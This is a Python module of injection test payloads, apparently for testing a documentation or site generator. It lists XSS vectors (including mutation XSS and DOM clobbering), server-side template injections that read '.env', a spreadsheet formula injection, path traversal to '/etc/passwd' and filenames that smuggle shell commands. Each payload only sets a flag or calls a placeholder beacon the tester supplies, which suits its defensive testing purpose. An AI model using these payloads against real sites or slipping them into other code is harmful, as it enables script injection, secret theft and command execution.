"""Texts that would do something if a page took them for more than text.

Each tells of itself by `window.__pwned` and by asking a server, the beacon. They follow OWASP's
list of ways around filters, what is known of mutation XSS and DOM clobbering, and what templates,
Markdown, feeds and terminals take for their own.
"""

from __future__ import annotations

JS, URL = "@JS@", "@URL@"  # a script that tells, an address of the beacon; another in each payload

_TAGS = (
    "<script>@JS@</script>",
    "<SCRIPT SRC=@URL@></SCRIPT>",
    "<script/x>@JS@</script\t>",
    "<<SCRIPT>@JS@//<</SCRIPT>",
    "<scr<script>ipt>@JS@</scr</script>ipt>",
    "<script\x0c>@JS@</script>",
    "<script type=module>import '@URL@'</script>",
    '<script type=importmap>{"imports":{"a":"@URL@"}}</script>',
    "<img src=x onerror=@JS@>",
    "<img src=@URL@>",
    "<IMG SRC=x OnErRoR=@JS@>",
    "<img/src=x/onerror=@JS@>",
    "<img src=`x`onerror=@JS@>",
    '<img """><script>@JS@</script>">',
    "<img src='x'onerror='@JS@'",
    "<image href=@URL@>",
    "<img srcset='@URL@ 2x'>",
    "<picture><source srcset=@URL@><img></picture>",
    "<body onload=@JS@>",
    "<body background=@URL@>",
    "<svg onload=@JS@>",
    "<svg><script>@JS@</script></svg>",
    "<svg><script href=@URL@ /></svg>",
    "<svg><animate onbegin=@JS@ attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values='javascript:@JS@'/><text y=20>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=@JS@ />#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>@JS@</script>'></foreignObject></svg>",
    "<svg><image href=@URL@ /></svg>",
    "<svg><set attributeName=onmouseover to=@JS@>",
    "<math><a xlink:href='javascript:@JS@'>x</a></math>",
    "<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><textarea>"
    "<a title='</textarea><img src=x onerror=@JS@>'>",
    "<math><annotation-xml encoding='text/html'><script>@JS@</script></annotation-xml></math>",
    "<iframe src='javascript:@JS@'></iframe>",
    "<iframe src=@URL@></iframe>",
    "<iframe srcdoc='<script>@JS@</script>'></iframe>",
    "<object data='data:text/html,<script>@JS@</script>'></object>",
    "<embed src=@URL@>",
    "<link rel=stylesheet href=@URL@>",
    "<link rel=prefetch href=@URL@><link rel=preload as=image href=@URL@>",
    "<meta http-equiv=refresh content='0;url=@URL@'>",
    "<meta http-equiv=refresh content='0;url=javascript:@JS@'>",
    "<base href=@URL@/>",
    "<form action=@URL@><input name=q autofocus onfocus=@JS@></form>",
    "<input autofocus onfocus=@JS@>",
    "<select autofocus onfocus=@JS@>",
    "<textarea autofocus onfocus=@JS@></textarea>",
    "<button formaction='javascript:@JS@'>x</button>",
    "<details open ontoggle=@JS@><summary>x</summary></details>",
    "<video src=@URL@ onerror=@JS@></video><video poster=@URL@>",
    "<audio src=@URL@ autoplay onerror=@JS@>",
    "<marquee onstart=@JS@>x</marquee>",
    "<p style='background:url(@URL@)'>x</p>",
    "<style>@import '@URL@';body{background:url(@URL@)}</style>",
    "<style><img src='</style><img src=x onerror=@JS@>'></style>",
    "<xss id=x tabindex=1 onfocus=@JS@></xss>",
    "<p tabindex=1 autofocus onfocus=@JS@ id=x>x</p>",
    "<template shadowrootmode=open><script>@JS@</script></template>",
    "<portal src=@URL@></portal><fencedframe src=@URL@></fencedframe>",
    "<table background=@URL@><td background=@URL@>x</table>",
    "<frameset onload=@JS@><frame src=@URL@></frameset>",
    "<isindex action='javascript:@JS@' type=submit>",
    "<applet code=@URL@></applet>",
    "<a href=x ping=@URL@>x</a>",
)

_BREAKS = (
    '"><script>@JS@</script>',
    "'><img src=x onerror=@JS@>",
    '" autofocus onfocus=@JS@ x="',
    "' onmouseover=@JS@ x='",
    "` onmouseover=@JS@ x=`",
    "</title><script>@JS@</script>",
    "</textarea><script>@JS@</script>",
    "</style><script>@JS@</script>",
    "</script><script>@JS@</script>",
    "</noscript><img src=x onerror=@JS@>",
    "<noscript><p title='</noscript><img src=x onerror=@JS@>'>",
    "</article></main></body></html><script>@JS@</script>",
    "--><script>@JS@</script><!--",
    "--!><script>@JS@</script>",
    "<!--><script>@JS@</script>-->",
    "<!-- digest {} --><script>@JS@</script>",
    "]]><script>@JS@</script><![CDATA[",
    "<![CDATA[><img src=x onerror=@JS@>]]>",
    "<?xml-stylesheet href='@URL@'?><script>@JS@</script>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM '@URL@'>]>&a;",
    "&lt;script&gt;@JS@&lt;/script&gt;",
    "&#60;img src=x onerror=@JS@&#62;",
    "&amp;lt;img src=x onerror=@JS@&amp;gt;",
    "\\u003cscript\\u003e@JS@\\u003c/script\\u003e",
    '"}]}</script><script>@JS@</script>',
    "';@JS@;//",
    '";@JS@;//',
    "`;@JS@;//",
    "\\';@JS@;//",
    "${@JS@}",
    "\u2028@JS@\u2029",
)

_SHAPES = (
    "</p><p onmouseover=@JS@>x",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@JS@>",
    "<svg></p><style><a id='</style><img src=1 onerror=@JS@>'>",
    "<noembed><p title='</noembed><img src=x onerror=@JS@>'>",
    "<xmp><p title='</xmp><img src=x onerror=@JS@>'>",
    "<plaintext><script>@JS@</script>",
    "<listing>&lt;img src=x onerror=@JS@&gt;</listing>",
    "<svg><desc><table><style><img src=x onerror=@JS@></style></table></desc></svg>",
    "<a href='javascript:@JS@' id=__config name=document>x</a>",
    "<form id=__palette_0><input name=attributes><input id=__search name=parentNode></form>",
    "<img name=getElementById><img name=currentScript><img name=cookie>",
    "<p id=title>x</p><p id=__toc>x</p><p id=high>x</p>",
    "<a id=defaultView></a><a id=defaultView name=x href='@URL@'></a>",
)

_ADDRESSES = (
    "[x](javascript:@JS@)",
    "[x](JaVaScRiPt:@JS@)",
    "[x](java&#10;script:@JS@)",
    "[x](&#x6A;avascript:@JS@)",
    "[x](<java\tscript:@JS@>)",
    "[x](\x01javascript:@JS@)",
    "[x](vbscript:@JS@)",
    "[x](data:text/html,<script>@JS@</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//127.0.0.1/@JS@)",
    "[x](\\\\127.0.0.1\\x)",
    "[x](/\\127.0.0.1/x)",
    "[x](../../../../x)",
    "[x](#high){: onclick=@JS@ }",
    "[x][y]\n\n[y]: javascript:@JS@",
    "![x](@URL@)",
    '![x](@URL@ "t\' onerror=@JS@")',
    "![x](javascript:@JS@)",
    '!["onerror=@JS@ x="](x)',
    '![x](x"onerror=@JS@;")',
    "<javascript:@JS@>",
    "<a href='javascript:@JS@'>x</a>",
    "<a href=' \x08javascript:@JS@'>x</a>",
    "<a href=javascript&colon;@JS@>x</a>",
    "<a href='feed:javascript:@JS@'>x</a>",
    "<a href='@URL@' target=_top>x</a>",
    "<a href=https:@JS@>x</a>",
    "https://user:pass@127.0.0.1/<script>@JS@</script>",
    'www.127.0.0.1"onmouseover=@JS@',
)

_LANGUAGES = (
    "{{ self.__init__.__globals__.__builtins__.open('.env').read() }}",
    "{{ config }}{% include '.env' %}{% raw %}{{ 7*7 }}{#",
    "{%- for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('@JS@')()}}",
    '--8<-- ".env"',
    "--8<--\n.env\nmkdocs.yml\n--8<--",
    "{!.env!} {! ../.env !}",
    '```python exec="on"\nimport os; print(os.environ)\n```',
    "::: digest.site\n",
    "{: onclick=@JS@ style=background:url(@URL@) }",
    "# x {: #__config onmouseover=@JS@ }",
    "---\ntitle: <script>@JS@</script>\ntemplate: ../../.env\n---\n",
    "*[x]: <script>@JS@</script>",
    "[^1]: <script>@JS@</script>\n\nx[^1]",
    "[TOC] [[_TOC_]] [[include .env]]",
    "$$\\href{javascript:@JS@}{x}$$ \\(\\input{.env}\\)",
    '```mermaid\ngraph TD; A[<img src=x onerror=@JS@>]; click A href "javascript:@JS@"\n```',
    "```html\n</code></pre><script>@JS@</script>\n```",
    "`</code><script>@JS@</script>`",
    "@startuml\n!include @URL@\n@enduml",
    "| a |\n|---|\n| <script>@JS@</script> |",
    "=cmd|' /C calc'!A0",
    "\ue000content\ue001 \ue000toc\ue001 \ue000title\ue001",  # how forms mark their slots
    "\ufdd00123456789abcdef\ufdd1acme/",  # how links mark the site's root
)

_CHARACTERS = (
    "\u202e<script>@JS@</script>\u202c reversed",
    "\u2066isolated \u2069\u200bzero\u200dwidth\ufeff\u00ad",
    "nul \x00 bel \x07 escape \x1b[2J\x1b]0;x\x07 <\x00script>@JS@</script>",
    "full width ＜script＞@JS@＜/script＞ ʺ＞",
    "Z" + "\u0300\u0301\u0302\u0303" * 200,
    "\U000e0001\U000e0041 tags \U0001f3f4 \ufffe\uffff",
    "carriage\rreturn \x0b\x0c\x1c\x1d\x1e\x85",
)

_NAMES = (
    "../../../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\System32",
    "CON",
    "NUL.md",
    ".git/config",
    "--output=pwned",
    "-u",
    "--upload-pack=touch pwned",
    "$(touch pwned) `touch pwned` ;touch pwned|touch pwned",
    "%2e%2e%2f%00 %n%s",
    "a" * 300,
)

BODIES = (*_TAGS, *_BREAKS, *_SHAPES, *_ADDRESSES, *_LANGUAGES, *_CHARACTERS, *_NAMES)


def loaded(beacon: str) -> list[str]:
    """Give all payloads, each with its number in what it would do; `beacon` is a server."""
    return [
        text.replace(JS, f"window.__pwned={number}").replace(URL, f"{beacon}{number}")
        for number, text in enumerate(BODIES)
    ]


def one_line(text: str) -> str:
    """Give a payload as it can stand where a line is all there is."""
    return text.replace("\n", " ")
